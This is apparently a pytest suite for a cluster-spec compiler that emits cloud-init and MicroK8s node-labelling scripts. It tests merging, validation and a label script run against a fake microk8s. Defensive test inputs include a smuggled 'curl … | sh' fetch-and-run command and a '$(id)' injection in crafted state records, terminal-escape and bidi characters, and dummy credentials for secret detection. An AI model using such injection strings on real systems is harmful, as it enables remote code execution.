"""The spec's extension points: how node and cluster values merge, where each one lands, the
label script run against a recording `microk8s`, and the timer checked by systemd itself."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from conftest import EXAMPLES, KEEPALIVED_EXAMPLE, replaced
from hacc.compiler.checks import RESERVED_PATHS
from hacc.compiler.frontend import analyze
from hacc.targets import extensions, render_cluster
from realtools import run, tool


def cluster_of(path: Path):
    analysis = analyze(path)
    assert analysis.ok, analysis.diagnostics
    assert analysis.cluster is not None
    return analysis.cluster


def variant(tmp_path: Path, old: str, new: str, text: str | None = None) -> Path:
    """The keepalived example (or `text`) with one change, as a spec file."""
    spec = tmp_path / "spec.yaml"
    spec.write_text(replaced(text or KEEPALIVED_EXAMPLE.read_text(), old, new))
    return spec


def write_files(cluster, node) -> dict[str, dict]:
    arts = {a.path: a.content for a in render_cluster(cluster)}
    doc = yaml.safe_load(arts[f"nodes/{node.name}/user-data.yaml"])
    return {f["path"]: f for f in doc["write_files"]}


def test_a_node_adds_to_the_cluster_wide_extensions(tmp_path) -> None:
    spec = tmp_path / "spec.yaml"
    text = replaced(
        KEEPALIVED_EXAMPLE.read_text(),
        "      - {name: cp1, address: 198.18.10.11, failureDomain: 1}\n",
        """      - name: cp1
        address: 198.18.10.11
        extensions:
          labels: {topology.kubernetes.io/zone: paris-rack1, example.com/site: lyon}
          files:
            - {path: /etc/systemd/timesyncd.conf.d/10-site.conf, content: "[Time]\\n"}
            - {path: /etc/motd, content: "cp1\\n", permissions: "0600"}
          preCommands: [echo cp1]
""",
    )
    spec.write_text(text)
    cluster = cluster_of(spec)
    cp1, cp2 = cluster.control_plane[:2]
    # The node's label wins by key; its file replaces the cluster's of the same path.
    assert dict(cp1.extensions.labels)["example.com/site"] == "lyon"
    assert dict(cp2.extensions.labels)["example.com/site"] == "paris"
    assert [f.path for f in cp1.extensions.files] == [
        "/etc/systemd/timesyncd.conf.d/10-site.conf",
        "/etc/motd",
    ]
    assert cp1.extensions.files[0].content == "[Time]\n"
    # Commands: the cluster's first, then the node's.
    assert cp1.extensions.pre_commands == ("systemctl restart systemd-timesyncd", "echo cp1")
    assert cp2.extensions.pre_commands == ("systemctl restart systemd-timesyncd",)
    files = write_files(cluster, cp1)
    assert files["/etc/motd"]["permissions"] == "0600" and files["/etc/motd"]["content"] == "cp1\n"
    assert "/etc/motd" not in write_files(cluster, cp2)


@pytest.mark.parametrize("example", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_hacc_writes_only_where_extra_files_may_not(example) -> None:
    """RESERVED_PATHS (HACC233) covers every file hacc's user-data writes or installs."""
    from hacc.targets.user_data import lb_file_list

    cluster = cluster_of(example)
    for node in cluster.nodes:
        own = {f.path for f in node.extensions.files}
        paths = [p for p in write_files(cluster, node) if p not in own]
        paths += [path for _, path, _ in lb_file_list(cluster)]
        for path in paths:
            assert any(path == r or path.startswith(r) for r in RESERVED_PATHS), path


def test_no_proxy_keeps_the_cluster_direct() -> None:
    cluster = cluster_of(KEEPALIVED_EXAMPLE)
    direct = extensions.no_proxy(cluster).split(",")
    for needed in ("127.0.0.1", "10.1.0.0/16", "10.152.183.0/24", ".svc", "198.18.10.0/24",
                   "198.18.10.100", "api.paris.example.com", ".paris.example.com"):  # fmt: skip
        assert needed in direct
    assert len(direct) == len(set(direct))


@pytest.mark.parametrize(
    "url", ["http://user:secret@proxy:3128", "socks5://proxy:1080", "http://proxy:3128/path"]
)
def test_proxy_urls_carry_no_credentials_or_paths(hacc, tmp_path, url) -> None:
    spec = variant(
        tmp_path, "      http: http://proxy.paris.example.com:3128\n", f"      http: {url}\n"
    )
    r = hacc("validate", str(spec))
    assert r.code == 1 and "error[HACC104]" in r.err


# -- the label script, run --------------------------------------------------------------------


FAKE_MICROK8S = """#!/usr/bin/env bash
# records `microk8s kubectl ...`; a node exists when it is named in $REGISTERED
echo "$*" >> "$CALLS"
if [[ $1 == kubectl && $2 == get ]]; then
  [[ " $REGISTERED " == *" $4 "* ]] && exit 0
  echo "Error from server (NotFound): nodes \\"$4\\" not found" >&2
  exit 1
fi
exit 0
"""


EXTERNAL_EXAMPLE = next(p for p in EXAMPLES if p.stem == "external-lb")


def label_bench(tmp_path: Path):
    cluster = cluster_of(EXTERNAL_EXAMPLE)
    files = write_files(cluster, cluster.control_plane[1])
    script = tmp_path / "label-nodes.sh"
    script.write_text(files[extensions.LABEL_SCRIPT]["content"])
    fake = tmp_path / "microk8s"
    fake.write_text(FAKE_MICROK8S)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "systemctl").write_text('#!/bin/sh\necho "systemctl $*" >> "$CALLS"\n')
    for f in (fake, bin_dir / "systemctl"):
        f.chmod(0o755)

    def go(registered: str) -> list[str]:
        calls = tmp_path / "calls"
        calls.unlink(missing_ok=True)
        env = {
            "PATH": f"{bin_dir}:/usr/bin:/bin",
            "HACC_MICROK8S": str(fake),
            "HACC_LABELLED": str(tmp_path / "done"),
            "REGISTERED": registered,
            "CALLS": str(calls),
        }
        r = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True,
                           timeout=30, check=False)  # fmt: skip
        assert r.returncode == 0, r.stderr
        return calls.read_text().splitlines() if calls.exists() else []

    return cluster, go


def test_label_script_labels_each_node_once_as_it_registers(tmp_path) -> None:
    cluster, go = label_bench(tmp_path)
    calls = go("cp-a1 cp-b1")
    assert "kubectl label node cp-a1 --overwrite topology.kubernetes.io/zone=eu-fra-a" in calls
    assert "kubectl label node cp-b1 --overwrite topology.kubernetes.io/zone=eu-fra-b" in calls
    assert not any("kubectl label node worker" in c for c in calls)
    assert not any(c.startswith("systemctl") for c in calls), "other nodes are still to come"
    # Later runs label only the nodes that registered since.
    calls = go(" ".join(n.name for n in cluster.nodes))
    assert not any("node cp-a1 " in c or "node cp-b1 " in c for c in calls)
    assert "kubectl taint node worker-c1 --overwrite example.com/ingress=true:NoSchedule" in calls
    assert (
        "kubectl label node worker-c1 --overwrite example.com/role=ingress "
        "topology.kubernetes.io/zone=eu-fra-c"
    ) in calls
    assert calls[-2:] == [
        "systemctl disable hacc-node-labels.timer",
        "systemctl stop hacc-node-labels.timer",
    ]
    assert sorted(os.listdir(tmp_path / "done")) == sorted(n.name for n in cluster.nodes)
    # MicroK8s's own labels are never named.
    assert not any("microk8s" in c.split("node", 1)[-1] for c in calls if "label" in c)


def test_label_units_pass_systemd_analyze(tmp_path) -> None:
    analyze_bin = shutil.which("systemd-analyze")
    assert analyze_bin, "systemd-analyze is installed by scripts/test"
    cluster = cluster_of(KEEPALIVED_EXAMPLE)
    files = write_files(cluster, cluster.first)
    root = tmp_path / "root"
    shutil.copytree("/lib/systemd/system", root / "usr/lib/systemd/system", symlinks=True)
    units = [p for p in files if p.startswith("/etc/systemd/system/hacc-node-labels")]
    assert len(units) == 2
    for path in (*units, extensions.LABEL_SCRIPT):
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(files[path]["content"])
        target.chmod(int(files[path]["permissions"], 8))
    r = run(analyze_bin, "verify", f"--root={root}", *units)
    assert r.returncode == 0 and r.stderr.strip() == "", r.stderr
    # The harness sees a broken unit.
    broken = root / units[1].lstrip("/")
    broken.write_text(broken.read_text().replace("OnUnitInactiveSec", "OnUnitInactiveSecs"))
    assert "Unknown key" in run(analyze_bin, "verify", f"--root={root}", units[1]).stderr


def test_label_script_is_shellcheck_clean(tmp_path) -> None:
    cluster = cluster_of(KEEPALIVED_EXAMPLE)
    path = tmp_path / "label-nodes.sh"
    path.write_text(write_files(cluster, cluster.first)[extensions.LABEL_SCRIPT]["content"])
    r = run(tool("shellcheck"), "--severity=style", str(path))
    assert r.returncode == 0, r.stdout


def test_plan_names_each_extension_change_with_its_live_step(hacc, tmp_path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(EXTERNAL_EXAMPLE.read_text())
    out = str(tmp_path / "out")
    assert hacc("build", str(spec), "-o", out).code == 0
    assert "Extension points" not in hacc("plan", str(spec), "-o", out).out
    text = replaced(
        EXTERNAL_EXAMPLE.read_text(),
        "address: 198.18.33.21, extensions: {labels: {topology.kubernetes.io/zone: eu-fra-b}}}",
        "address: 198.18.33.21, extensions: {labels: {topology.kubernetes.io/zone: eu-fra-z}}}",
    )
    text = replaced(text, "          taints: [example.com/ingress=true:NoSchedule]\n", "")
    spec.write_text(text)
    r = hacc("plan", str(spec), "-o", out)
    assert (
        "Extension points of cloud-fra-prod (first boot only): + worker-b1: label "
        "topology.kubernetes.io/zone=eu-fra-z\n      on a control-plane node: sudo microk8s "
        "kubectl label node worker-b1 topology.kubernetes.io/zone=eu-fra-z --overwrite"
    ) in r.out
    assert "- worker-b1: label" not in r.out  # a new value is set over the old one
    assert "taint node worker-c1 example.com/ingress=true:NoSchedule-" in r.out
    doc = json.loads(hacc("plan", str(spec), "-o", out, "--format", "json").out)
    changes = doc["clusters"][0]["extensions"]
    assert {(c["change"], c["node"]) for c in changes} == {
        ("add", "worker-b1"),
        ("remove", "worker-c1"),
    }


@pytest.mark.parametrize("bad", ["\u2028", "\x85", "\x1b", "\x00", "\x9b", "\ud800", "\uffff"])
def test_file_content_and_commands_hold_only_what_yaml_can_carry(hacc, tmp_path, bad) -> None:
    """A character the YAML emitter cannot write is refused where the spec holds it, never a
    crash at build time (the fuzz test found U+2028 in a file's content)."""
    escaped = bad.encode("unicode_escape").decode()
    for old, new in (
        ("          NTP=ntp.paris.example.com\n", f'        content: "NTP={escaped}"\n'),
        (
            "      - systemctl restart systemd-timesyncd\n",
            f'      - "systemctl restart {escaped}"\n',
        ),
    ):
        text = KEEPALIVED_EXAMPLE.read_text()
        if old.startswith("          NTP"):
            text = replaced(text, "        content: |\n          [Time]\n", "")
        r = hacc("validate", str(variant(tmp_path, old, new, text)))
        assert r.code == 1 and "error[HACC104]" in r.err, r.err


@pytest.mark.parametrize(
    ("recorded", "payload"),
    [
        ({"w1": ["label a=\x1b[31mred"]}, "\x1b"),
        ({"w1": ["label a=\x9b31mred"]}, "\x9b"),
        ({"w1": ["preCommand echo \u202e"]}, "\u202e"),
        ({"worker-a1": ["taint x=1;curl -s https://example.com/p|sh;:NoSchedule"]}, "curl"),
        ({"worker-a1": ["label y$(id)=1"]}, "$(id)"),
        ({"w1": "label a=b"}, None),
        ({"w1": ["label a=b"] * 2000}, None),
        ([], None),
    ],
    ids=[
        "esc",
        "c1-csi",
        "bidi",
        "shell-in-taint",
        "shell-in-label",
        "not-a-list",
        "too-many",
        "not-a-mapping",
    ],
)
def test_a_crafted_state_file_never_reaches_the_terminal(hacc, tmp_path, recorded, payload) -> None:
    """A record of the wrong shape is ignored whole; an item not of a shape hacc writes is
    dropped (the node's current items then show as added), never printed as a command."""
    from hacc.outdir.writer import STATE_FILE

    spec = tmp_path / "spec.yaml"
    spec.write_text(EXTERNAL_EXAMPLE.read_text())
    out = tmp_path / "out"
    assert hacc("build", str(spec), "-o", str(out)).code == 0
    state = out / "cloud-fra-prod" / STATE_FILE
    doc = json.loads(state.read_text())
    doc["extensions"] = recorded
    state.write_text(json.dumps(doc))
    r = hacc("plan", str(spec), "-o", str(out))
    assert r.code == 0, r.err
    if payload is None or payload in ("\x1b", "\x9b", "\u202e"):
        assert "Extension points" not in r.out
    assert payload is None or payload not in r.out


def test_a_label_key_prefix_is_a_dns_subdomain_of_at_most_253_characters(hacc, tmp_path) -> None:
    for prefix, code in ((("a" * 63 + ".") * 3 + "a" * 61, 0), ("a" * 255, 1)):
        site = f"labels: {{{prefix}/site: paris}}"
        spec = variant(tmp_path, "labels: {example.com/site: paris}", site)
        r = hacc("validate", str(spec))
        assert r.code == code, r.err
        if code:
            assert "error[HACC104]" in r.err


def test_a_proxy_of_only_no_proxy_entries_builds(hacc, tmp_path) -> None:
    urls = "      http: http://proxy.paris.example.com:3128\n      https: http://proxy.paris.example.com:3128\n"
    spec = variant(tmp_path, urls, "")
    assert hacc("build", str(spec), "-o", str(tmp_path / "out")).code == 0
    ud = yaml.safe_load((tmp_path / "out/edge-paris-01/nodes/cp1/user-data.yaml").read_text())
    assert "apt" not in ud


def test_apt_installs_the_load_balancer_through_the_proxy() -> None:
    cluster = cluster_of(KEEPALIVED_EXAMPLE)
    arts = {a.path: a.content for a in render_cluster(cluster)}
    ud = yaml.safe_load(arts["nodes/cp1/user-data.yaml"])
    assert ud["apt"] == {
        "http_proxy": "http://proxy.paris.example.com:3128",
        "https_proxy": "http://proxy.paris.example.com:3128",
    }
    assert "haproxy" in ud["packages"]


def test_a_node_whose_labels_are_refused_holds_back_only_itself(tmp_path) -> None:
    cluster, go = label_bench(tmp_path)
    fake = tmp_path / "microk8s"
    refuse = '[[ $2 != get && " $* " == *" cp-a1 "* ]] && exit 1\nexit 0\n'
    fake.write_text(replaced(fake.read_text(), "fi\nexit 0\n", "fi\n" + refuse))
    calls = go(" ".join(n.name for n in cluster.nodes))
    assert "kubectl label node cp-b1 --overwrite topology.kubernetes.io/zone=eu-fra-b" in calls
    assert not any(c.startswith("systemctl") for c in calls), "cp-a1 is still to do"
    assert "cp-a1" not in os.listdir(tmp_path / "done") and "cp-b1" in os.listdir(tmp_path / "done")


@pytest.mark.parametrize("bidi", ["\u202e", "\u2066"])
def test_a_command_holds_no_bidirectional_override(hacc, tmp_path, bidi) -> None:
    """Such a character makes the committed script read otherwise than it runs."""
    escaped = bidi.encode("unicode_escape").decode()
    spec = variant(
        tmp_path,
        "      - systemctl restart systemd-timesyncd\n",
        f'      - "echo {escaped} systemctl restart systemd-timesyncd"\n',
    )
    r = hacc("validate", str(spec))
    assert r.code == 1 and "error[HACC104]" in r.err, r.err


@pytest.mark.parametrize("folder", ["/usr/local/lib", "/etc/haproxy", "/etc/systemd/system"])
def test_an_extra_file_never_stands_where_hacc_needs_a_folder(hacc, tmp_path, folder) -> None:
    """cloud-init could not write hacc's files below a file there (nor the bootstrap)."""
    spec = variant(
        tmp_path,
        "path: /etc/systemd/timesyncd.conf.d/10-site.conf",
        f"path: {folder}",
    )
    r = hacc("validate", str(spec))
    assert r.code == 1 and "error[HACC233]" in r.err and "a folder that holds" in r.err, r.err


def test_the_spec_s_files_come_after_the_bootstrap(tmp_path) -> None:
    cluster = cluster_of(KEEPALIVED_EXAMPLE)
    paths = list(write_files(cluster, cluster.first))
    assert paths.index("/usr/local/lib/hacc/bootstrap.sh") < paths.index(
        "/etc/systemd/timesyncd.conf.d/10-site.conf"
    )


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("mysql --password hunter2 -e 'select 1'", "a password"),
        ("echo DB_PASSWORD=hunter2 >> /etc/app.env", "a password"),
        ("echo 'password: hunter2' > /etc/app.yaml", "a password"),
        ("curl -u admin:hunter2 https://admin:hunter2@repo.example.com/", "a password in a URL"),
        ("export AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP", "an AWS access key"),
        ("git clone https://ghp_abcdefghijklmnopqrstuvwxyz@github.com/x/y", "a GitHub token"),
        ("echo __HACC_JOIN_TOKEN__", "a hacc placeholder"),
        ("docker login --password-stdin < /run/secrets/registry", None),
        ("echo password=$(cat /run/secrets/db) >> /etc/app.env", None),
        ('echo "DB_PASSWORD=${DB_PASSWORD}" >> /etc/app.env', None),
        ("echo password_file=/run/secrets/db >> /etc/app.env", None),
        ("passwd -l ubuntu", None),
        ("echo 'passwd:         files systemd' >> /etc/nsswitch.conf", None),
    ],
)
def test_a_secret_in_a_command_is_refused(hacc, tmp_path, command, found) -> None:
    """HACC234: hacc's output is committed, so a secret value in a command would be too; a
    command that fetches the secret on the node is fine."""
    spec = variant(
        tmp_path,
        "      - systemctl restart systemd-timesyncd\n",
        f"      - {json.dumps(command)}\n",
    )
    r = hacc("validate", str(spec))
    if found is None:
        assert r.code == 0, r.err
    else:
        assert r.code == 1 and "error[HACC234]" in r.err and f"holds {found}" in r.err, r.err
